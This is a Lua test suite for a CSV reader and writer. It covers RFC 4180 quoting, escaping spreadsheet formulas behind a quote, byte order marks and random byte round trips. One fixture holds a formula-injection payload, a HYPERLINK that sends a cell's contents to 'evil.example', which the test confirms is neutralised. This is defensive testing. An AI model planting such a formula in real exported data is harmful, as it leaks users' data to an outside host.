-- CSV as licensor writes and reads it (lua/licensor/csv.lua): RFC 4180
-- quoting, cells a spreadsheet never runs as formulas (behind one `'`,
-- taken off again on reading), a UTF-8 byte order mark read as nothing,
-- and any bytes at all through a round trip.
local csv = require "licensor.csv"

-- Park-Miller: the same draws on Lua 5.4 and LuaJIT.
local function random(seed)
  local state = seed
  return function(n)
    state = state * 16807 % 2147483647
    return state % n + 1
  end
end

describe("csv", function()
  it("reads CSV as RFC 4180 says: quotes, doubled quotes, line breaks in fields", function()
    local rows = assert(csv.parse('a,b\r\n"x, ""y""","two\nlines"\n'))
    assert.are.same({ { "a", "b", line = 1 }, { 'x, "y"', "two\nlines", line = 2 } }, rows)
    assert.are.equal('"x, ""y""",plain,', csv.line({ 'x, "y"', "plain", nil }, 3))
    assert.is_nil((csv.parse('a,"open\n')))
  end)

  it("writes a cell starting with = + - @ tab or CR behind one ', so that no spreadsheet runs it", function()
    local owner = '=HYPERLINK("https://evil.example/?k="&A2,"Renew")'
    assert.are.equal([["'=HYPERLINK(""https://evil.example/?k=""&A2,""Renew"")"]], csv.line({ owner }))
    for _, v in ipairs({ "=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx" }) do
      local text = csv.line({ v, "b" })
      assert.are.equal("'", text:gsub('^"', ""):sub(1, 1), v)
      assert.are.same({ { v, "b", line = 1 } }, assert(csv.parse(text .. "\n")))
    end
    for _, v in ipairs({ "acme", "1", "x=1", "a-b", "mail@example.com", " =x", "" }) do
      assert.are.equal(v, csv.line({ v }):gsub('"', ""), v)
    end
  end)

  it("escapes a cell starting with ' too, so that exactly the one added quote is taken off", function()
    for _, v in ipairs({ "'", "''", "'=1", "'quoted'", "O'Brien" }) do
      local text = csv.line({ v })
      assert.are.same({ { v, line = 1 } }, assert(csv.parse(text .. "\n")), v)
    end
    assert.are.equal("''quoted'", csv.line({ "'quoted'" }))
    assert.are.equal("O'Brien", csv.line({ "O'Brien" }))
    assert.are.same({ { "=1", "quoted'", line = 1 } }, assert(csv.parse("'=1,'quoted'\n")))
  end)

  it("reads a UTF-8 byte order mark at the start of a file as nothing, and one later as text", function()
    assert.are.same({ { "key", "owner", line = 1 }, { "k", csv.BOM .. "x", line = 2 } },
      assert(csv.parse(csv.BOM .. "key,owner\r\nk," .. csv.BOM .. "x\r\n")))
    assert.are.same({ { "key", line = 1 } }, assert(csv.parse(csv.BOM .. '"key"\n')))
    -- A cell that itself starts with one is escaped, so that it survives as the first of a file.
    assert.are.equal("'" .. csv.BOM .. "x", csv.line({ csv.BOM .. "x" }))
    assert.are.same({ { csv.BOM .. "x", line = 1 } }, assert(csv.parse(csv.line({ csv.BOM .. "x" }) .. "\n")))
  end)

  it("round-trips 10,000 random cells of any bytes: control characters, non-ASCII, quotes, not UTF-8", function()
    local draw = random(20181205)
    local alphabet = {}
    for b = 0, 255 do alphabet[#alphabet + 1] = string.char(b) end
    for _, s in ipairs({ "=", "+", "-", "@", "'", '"', ",", "\r", "\n", "\r\n", "\t", "é", "中", "🙂",
                         "\u{202E}", csv.BOM }) do
      for _ = 1, 8 do alphabet[#alphabet + 1] = s end
    end
    local rows, lines = {}, {}
    for r = 1, 2000 do
      local row = {}
      for c = 1, 5 do
        local parts = {}
        for i = 1, draw(12) - 1 do parts[i] = alphabet[draw(#alphabet)] end
        row[c] = table.concat(parts)
      end
      rows[r], lines[r] = row, csv.line(row, 5)
    end
    local parsed = assert(csv.parse(table.concat(lines, "\r\n") .. "\r\n"))
    assert.are.equal(#rows, #parsed)
    for r, row in ipairs(rows) do
      for c = 1, 5 do
        if parsed[r][c] ~= row[c] then
          error(("row %d cell %d: %q read back as %q"):format(r, c, row[c], tostring(parsed[r][c])))
        end
      end
    end
  end)
end)
